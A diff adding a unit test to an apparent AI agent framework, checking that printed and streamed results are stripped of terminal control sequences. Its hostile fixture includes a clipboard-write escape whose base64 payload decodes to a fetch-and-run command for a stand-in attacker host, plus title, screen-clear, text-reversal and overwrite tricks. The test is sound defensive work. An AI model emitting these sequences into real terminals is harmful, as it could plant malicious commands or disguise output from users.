@@ -44,3 +44,17 @@ def test_text_view_says_why_a_call_failed_or_was_denied():
     assert lines[0] == '  · echo(text="no") → denied: not that one'
     assert lines[1].startswith('  · echo(text="boom") → error: ValueError: boom happened (')
     assert lines[2] == "Done." and lines[3].startswith("  2 requests")
+
+
+def test_printing_a_result_sends_no_control_sequence_to_the_terminal():
+    hostile = ("Done.\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b]0;pwned\x07\x1b[2J"
+               "\u202eevil\u202c\r\x1b[1Aover")
+    result = _agent(Scripted([hostile])).run("go")
+    for text in (str(result), terminal.result_text(result)):
+        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text and "\r" not in text
+        assert "Done." in text and "evil" in text and "over" in text  # the words stay, the controls go
+    out = io.StringIO()
+    view = terminal.TextView(stream=True, file=out)
+    streamed = _agent(Scripted([hostile]), on_event=view, stream=True).run("go")
+    view.finish(streamed)
+    assert "\x1b" not in out.getvalue() and "\u202e" not in out.getvalue()
